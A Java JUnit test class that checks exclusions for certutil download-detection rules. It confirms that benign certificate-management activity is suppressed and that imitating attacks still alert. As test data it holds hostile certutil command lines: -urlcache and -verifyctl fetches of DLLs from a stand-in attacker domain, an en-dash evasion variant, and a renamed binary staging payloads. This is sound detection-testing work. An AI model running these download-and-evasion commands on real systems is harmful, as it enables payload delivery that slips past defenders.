package dev.bazahunt.tuning;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.rules.HardenedCertutilRule;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DeviceFileEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/**
 * deploy/exclusions/seed-scenarios.yaml against telemetry of each false-positive scenario and of attacks
 * that imitate it. Surefire runs in the udfs module, so the file is one level up.
 */
class SeedScenariosTest {

    private static final Path SEED = Path.of("..", "deploy", "exclusions", "seed-scenarios.yaml");
    private static final ExclusionSet EXCLUSIONS = ExclusionSet.load(SEED);
    private static final List<String> BOTH_RULES =
            List.of(RuleIds.CERTUTIL_DOWNLOAD, RuleIds.CERTUTIL_DOWNLOAD_HARDENED);

    /** A file write by the genuine System32 certutil on a workstation, varied per scenario. */
    private static DeviceFileEvent certutilRow(String commandLine, Consumer<DeviceFileEvent> scenario) {
        DeviceFileEvent event = new DeviceFileEvent();
        event.timestamp = 1_626_860_523_552_087_100L;
        event.reportId = 90211L;
        event.deviceId = "5e1f0a9c7d3b2e4f6a8c0b1d3e5f7a9c1b3d5e7f";
        event.deviceName = "wks-0317.contoso.local";
        event.actionType = "FileCreated";
        event.fileName = "5A1B2C3D4E5F60718293A4B5C6D7E8F901234567";
        event.folderPath = "C:\\Users\\j.doe\\AppData\\Roaming\\Microsoft\\SystemCertificates\\My\\Certificates\\"
                + event.fileName;
        event.initiatingProcessFileName = "certutil.exe";
        event.initiatingProcessFolderPath = "c:\\windows\\system32\\certutil.exe";
        event.initiatingProcessVersionInfoOriginalFileName = "CertUtil.exe";
        event.initiatingProcessVersionInfoCompanyName = "Microsoft Corporation";
        event.initiatingProcessAccountDomain = "CONTOSO";
        event.initiatingProcessAccountName = "j.doe";
        event.initiatingProcessAccountSid = "S-1-5-21-1004336348-1177238915-682003330-1104";
        event.initiatingProcessParentFileName = "explorer.exe";
        event.initiatingProcessCommandLine = commandLine;
        scenario.accept(event);
        return event;
    }

    private static DeviceFileEvent scheduledGeneration(String commandLine) {
        return certutilRow(commandLine, e -> {
            e.initiatingProcessParentFileName = "svchost.exe";
            e.initiatingProcessAccountDomain = "NT AUTHORITY";
            e.initiatingProcessAccountName = "system";
            e.initiatingProcessAccountSid = "S-1-5-18";
            e.folderPath = "C:\\ProgramData\\CertMaint\\InternalCert.cer";
            e.fileName = "InternalCert.cer";
        });
    }

    private static DeviceFileEvent adminRootUpdate(String account, String sid, String commandLine) {
        return certutilRow(commandLine, e -> {
            e.initiatingProcessAccountName = account;
            e.initiatingProcessAccountSid = sid;
            e.initiatingProcessParentFileName = "cmd.exe";
        });
    }

    private static DeviceFileEvent powershellServiceCert(String parent, String commandLine) {
        return certutilRow(commandLine, e -> {
            e.initiatingProcessParentFileName = parent;
            e.initiatingProcessAccountName = "svc-deploy";
        });
    }

    private static DeviceFileEvent caOperation(String account, String device, String commandLine) {
        return certutilRow(commandLine, e -> {
            e.initiatingProcessAccountName = account;
            e.deviceName = device;
            e.initiatingProcessParentFileName = "powershell.exe";
            e.folderPath = "C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crl";
            e.fileName = "ContosoIssuingCA01.crl";
        });
    }

    private static DeviceFileEvent internalCertDecode(String writtenName, String commandLine) {
        return certutilRow(commandLine, e -> {
            e.initiatingProcessAccountName = "adm-pki";
            e.fileName = writtenName;
            e.folderPath = "C:\\PKI\\CertData\\" + writtenName;
        });
    }

    private static void assertExcluded(String scenario, DeviceFileEvent event) {
        for (String rule : BOTH_RULES) {
            assertThat(EXCLUSIONS.firstMatch(rule, event)).as(scenario + " under " + rule).isNotNull();
        }
    }

    private static void assertNotExcluded(String nearMiss, DeviceFileEvent event) {
        for (String rule : BOTH_RULES) {
            assertThat(EXCLUSIONS.firstMatch(rule, event)).as(nearMiss + " under " + rule).isNull();
        }
    }

    @Test
    void seedFileLoadsWithOneEntryPerScenarioForBothRules() {
        assertThat(EXCLUSIONS.all()).hasSize(5);
        assertThat(EXCLUSIONS.all()).allSatisfy(exclusion -> assertThat(exclusion.ruleIds())
                .containsExactlyInAnyOrderElementsOf(BOTH_RULES));
    }

    @Test
    void scheduledCertificateGeneration() {
        assertExcluded("nightly task", scheduledGeneration(
                "certutil.exe -generate -subject \"CN=InternalCert\" -f C:\\ProgramData\\CertMaint\\InternalCert.cer"));
        assertNotExcluded("download appended", scheduledGeneration(
                "certutil.exe -urlcache -f https://pshe0pxe339.xyz/a.dll -generate -subject \"CN=InternalCert\""));
        assertNotExcluded("en-dash download appended", scheduledGeneration(
                "certutil.exe \u2013url\"cache\" -f hxxp -generate -subject CN=InternalCert http://pshe0pxe339.xyz/a"));
        assertNotExcluded("another subject", scheduledGeneration("certutil.exe -generate -subject \"CN=InternalCertX\""));
        DeviceFileEvent fromExcel = scheduledGeneration("certutil.exe -generate -subject \"CN=InternalCert\"");
        fromExcel.initiatingProcessParentFileName = "excel.exe";
        assertNotExcluded("launched by Excel", fromExcel);
    }

    @Test
    void administratorsUpdatingTrustedRoots() {
        String addRoot = "certutil.exe -addstore -user TrustedRootCertStore C:\\Temp\\ContosoRootCA.cer";
        assertExcluded("built-in Administrator", adminRootUpdate("Administrator",
                "S-1-5-21-1004336348-1177238915-682003330-500", addRoot));
        assertExcluded("named Domain Admin with slash verb", adminRootUpdate("adm-jdoe",
                "S-1-5-21-1004336348-1177238915-682003330-2231", addRoot.replace("-addstore -user", "/addstore /user")));
        assertNotExcluded("standard user", adminRootUpdate("j.doe",
                "S-1-5-21-1004336348-1177238915-682003330-1104", addRoot));
        assertNotExcluded("root fetched over http", adminRootUpdate("adm-jdoe",
                "S-1-5-21-1004336348-1177238915-682003330-2231",
                "certutil.exe -addstore -user TrustedRootCertStore http://pshe0pxe339.xyz/root.cer"));
        DeviceFileEvent renamed = adminRootUpdate("Administrator", "S-1-5-21-1004336348-1177238915-682003330-500", addRoot);
        renamed.initiatingProcessFileName = "x8k2.exe";
        renamed.initiatingProcessFolderPath = "C:\\Users\\Public\\x8k2\\x8k2.exe";
        assertNotExcluded("renamed copy", renamed);
    }

    @Test
    void powershellCertificateManagementForInternalServices() {
        String install = "\"C:\\Windows\\system32\\certutil.exe\" -addstore -user MyInternalServiceCert C:\\Deploy\\svc-web01.cer";
        assertExcluded("Windows PowerShell", powershellServiceCert("powershell.exe", install));
        assertExcluded("PowerShell 7", powershellServiceCert("pwsh.exe", install));
        assertNotExcluded("cmd.exe parent", powershellServiceCert("cmd.exe", install));
        assertNotExcluded("-urlcache added", powershellServiceCert("powershell.exe",
                install + " -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php"));
        assertNotExcluded("another store", powershellServiceCert("powershell.exe",
                install.replace("MyInternalServiceCert", "Root")));
    }

    @Test
    void enterpriseCaServiceAccountOperations() {
        assertExcluded("dspublish on the CA", caOperation("svc-pki-ca", "pki-ca01.contoso.local",
                "certutil.exe -f -dspublish C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crl"));
        assertExcluded("issuing a pending request", caOperation("svc-pki-ca", "pki-ca02.contoso.local",
                "certutil.exe -resubmit 4127"));
        assertNotExcluded("another account", caOperation("j.doe", "pki-ca01.contoso.local",
                "certutil.exe -f -dspublish C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crl"));
        assertNotExcluded("another host", caOperation("svc-pki-ca", "wks-0317.contoso.local",
                "certutil.exe -f -dspublish C:\\Windows\\System32\\CertSrv\\CertEnroll\\ContosoIssuingCA01.crl"));
        assertNotExcluded("the CA account downloading", caOperation("svc-pki-ca", "pki-ca01.contoso.local",
                "certutil.exe -dspublish -verifyctl -f https://pshe0pxe339.xyz/a.dll C:\\Users\\Public\\a.dll"));
    }

    @Test
    void internallySignedCertificateData() {
        assertExcluded("decoded internal cert", internalCertDecode("ContosoInternalIssuingCA.cer",
                "certutil.exe -decode C:\\PKI\\CertData\\ContosoInternalIssuingCA.b64 C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer"));
        assertExcluded("decoded trusted cert", internalCertDecode("TrustedPartnerRoot.crt",
                "certutil.exe -decode C:\\PKI\\CertData\\TrustedPartnerRoot.txt C:\\PKI\\CertData\\TrustedPartnerRoot.crt"));
        assertNotExcluded("decoded DLL payload", internalCertDecode("InternalUpdate.dll",
                "certutil.exe -decode C:\\PKI\\CertData\\InternalUpdate.txt C:\\PKI\\CertData\\InternalUpdate.dll"));
        DeviceFileEvent elsewhere = internalCertDecode("InternalCert.cer",
                "certutil.exe -decode C:\\Users\\Public\\a.txt C:\\Users\\Public\\InternalCert.cer");
        elsewhere.folderPath = "C:\\Users\\Public\\InternalCert.cer";
        assertNotExcluded("outside the PKI folder", elsewhere);
        assertNotExcluded("subject without Internal or Trusted", internalCertDecode("PartnerRoot.cer",
                "certutil.exe -decode C:\\PKI\\CertData\\PartnerRoot.b64 C:\\PKI\\CertData\\PartnerRoot.cer"));
    }

    /**
     * None of the five scenarios fetches a URL, so neither rule matches them: their exclusions are
     * audited insurance, and each row is covered by its own scenario's entry.
     */
    @Test
    void seedScenariosAreNoDownloadsSoNeitherRuleMatchesThem() {
        Map<String, DeviceFileEvent> scenarios = new LinkedHashMap<>();
        scenarios.put("Scheduled internal certificate generation",
                scheduledGeneration("certutil.exe -generate -subject \"CN=InternalCert\""));
        scenarios.put("Administrators updating trusted roots", adminRootUpdate("Administrator",
                "S-1-5-21-1004336348-1177238915-682003330-500",
                "certutil.exe -addstore -user TrustedRootCertStore C:\\Temp\\ContosoRootCA.cer"));
        scenarios.put("PowerShell certificate management for internal services", powershellServiceCert("powershell.exe",
                "certutil.exe -addstore -user MyInternalServiceCert C:\\Deploy\\svc-web01.cer"));
        scenarios.put("Enterprise CA service account operations", caOperation("svc-pki-ca", "pki-ca01.contoso.local",
                "certutil.exe -dspublish -f C:\\CAConfig\\ContosoRootCA.crt RootCA"));
        scenarios.put("Internally signed certificate data with an encoded payload",
                internalCertDecode("ContosoInternalIssuingCA.cer", "certutil.exe -decode "
                        + "C:\\PKI\\CertData\\ContosoInternalIssuingCA.b64 C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer"));
        scenarios.forEach((name, event) -> {
            assertThat(HardenedCertutilRule.matches(event)).as(name).isFalse();
            assertThat(CertutilDownloadRule.matches(event)).as(name).isFalse();
            assertThat(EXCLUSIONS.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).as(name)
                    .extracting(Exclusion::name).isEqualTo(name);
        });
    }

    /**
     * The same scenarios with a download in them: the hardened rule matches each one, and the seed file's
     * guards (the genuine binary, no fetching verb or URL) keep every one of them alerting.
     */
    @Test
    void attacksDressedAsASeedScenarioMatchAndStillAlert() {
        DeviceFileEvent caDownload = caOperation("svc-pki-ca", "pki-ca01.contoso.local",
                "certutil.exe -dspublish -verifyctl -f https://pshe0pxe339.xyz/a.dll C:\\Users\\Public\\a.dll");
        caDownload.folderPath = "C:\\Users\\Public\\a.dll";
        DeviceFileEvent renamedDecode = internalCertDecode("ContosoInternalIssuingCA.cer",
                "x8k2.exe -urlcache -f http://pshe0pxe339.xyz/c.b64 -decode C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer");
        renamedDecode.initiatingProcessFileName = "x8k2.exe";
        renamedDecode.initiatingProcessFolderPath = "C:\\Users\\Public\\x8k2\\x8k2.exe";
        Map<String, DeviceFileEvent> attacks = new LinkedHashMap<>();
        attacks.put("generation with a download first", scheduledGeneration(
                "certutil.exe -urlcache -f https://pshe0pxe339.xyz/a.dll -generate -subject \"CN=InternalCert\""));
        attacks.put("Administrator adding a root fetched over http", adminRootUpdate("Administrator",
                "S-1-5-21-1004336348-1177238915-682003330-500",
                "certutil.exe -addstore -user TrustedRootCertStore -urlcache -f http://pshe0pxe339.xyz/root.cer"));
        attacks.put("PowerShell install with an en-dash url\"cache\"", powershellServiceCert("powershell.exe",
                "certutil.exe -addstore -user MyInternalServiceCert \u2013url\"cache\" -f http://pshe0pxe339.xyz/s.cer"));
        attacks.put("CA account's -verifyctl fetch into Public", caDownload);
        attacks.put("renamed copy decoding into the PKI folder", renamedDecode);
        attacks.forEach((name, event) -> {
            assertThat(HardenedCertutilRule.matches(event)).as(name).isTrue();
            assertThat(alerts(event)).as(name).isTrue();
        });
    }

    /**
     * A site's own entry after the seed file's, for the hardened rule's documented false positive: an
     * administrator fetching Sysinternals with the System32 certutil. The rule matches that row and the
     * entry removes it; the same fetch by another account, or from another host, still alerts.
     */
    @Test
    void aSiteExclusionRemovesTheDownloadsItNamesAndNoOthers() throws Exception {
        ExclusionSet site = ExclusionSet.parse(Files.readString(SEED) + """
                  - name: Sysinternals downloads by the PKI administrator
                    reason: adm-jdoe fetches PsTools with the System32 certutil into his Downloads folder.
                    rules: [395090bd-f47c-4d17-800d-50a30fba3db4]
                    conditions:
                      all:
                        - {column: InitiatingProcessFileName, operator: =~, value: certutil.exe}
                        - {column: InitiatingProcessFolderPath, operator: in~, values: [C:\\Windows\\System32\\certutil.exe]}
                        - {column: InitiatingProcessAccountName, operator: =~, value: adm-jdoe}
                        - {column: FolderPath, operator: startswith, value: C:\\Users\\adm-jdoe\\Downloads\\}
                        - {column: InitiatingProcessCommandLine, operator: contains, value: " https://download.sysinternals.com/files/"}
                """, "site-exclusions.yaml");
        DeviceFileEvent psTools = sysinternalsFetch("adm-jdoe", "https://download.sysinternals.com/files/PSTools.zip");
        DeviceFileEvent byAUser = sysinternalsFetch("j.doe", "https://download.sysinternals.com/files/PSTools.zip");
        DeviceFileEvent elsewhere = sysinternalsFetch("adm-jdoe", "https://pshe0pxe339.xyz/files/PSTools.zip");

        for (DeviceFileEvent event : List.of(psTools, byAUser, elsewhere)) {
            assertThat(HardenedCertutilRule.matches(event)).as(event.initiatingProcessCommandLine).isTrue();
        }
        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, psTools)).extracting(Exclusion::name)
                .isEqualTo("Sysinternals downloads by the PKI administrator");
        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, byAUser)).isNull();
        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, elsewhere)).isNull();
        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD, psTools)).as("named for the hardened rule only").isNull();
    }

    private static DeviceFileEvent sysinternalsFetch(String account, String url) {
        String target = "C:\\Users\\" + account + "\\Downloads\\PSTools.zip";
        return certutilRow("certutil.exe -urlcache -split -f " + url + " " + target, e -> {
            e.initiatingProcessAccountName = account;
            e.initiatingProcessParentFileName = "cmd.exe";
            e.folderPath = target;
            e.fileName = "PSTools.zip";
        });
    }

    @Test
    void hardenedRuleRaisesNothingOnSystem32CrlFetches() {
        String cache = "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\";
        List<DeviceFileEvent> fetches = List.of(
                certutilRow("certutil -urlcache -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl",
                        e -> e.folderPath = cache + "Content\\77EC63BDA74BD0D0E0426DC8F8008506"),
                certutilRow("certutil.exe -urlcache -split -f http://crl3.digicert.com/DigiCertGlobalRootG2.crl",
                        e -> e.folderPath = cache + "MetaData\\77EC63BDA74BD0D0E0426DC8F8008506"),
                certutilRow("certutil.exe -verify -urlfetch http://www.microsoft.com/pkiops/crl/MicSecSerCA2011_2011-10-18.crl",
                        e -> {
                            e.initiatingProcessFolderPath = "C:\\Windows\\SysWOW64";
                            e.folderPath = "C:\\Windows\\System32\\config\\systemprofile\\AppData\\LocalLow\\Microsoft"
                                    + "\\CryptnetUrlCache\\Content\\D4DE20D05E66FC53FE1A50882C78DB28";
                        }));
        for (DeviceFileEvent event : fetches) {
            assertThat(HardenedCertutilRule.matches(event)).as(event.initiatingProcessCommandLine).isFalse();
            assertThat(CertutilDownloadRule.matches(event)).as(event.initiatingProcessCommandLine).isFalse();
        }
    }

    private static boolean alerts(DeviceFileEvent event) {
        return HardenedCertutilRule.matches(event)
                && EXCLUSIONS.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event) == null;
    }
}
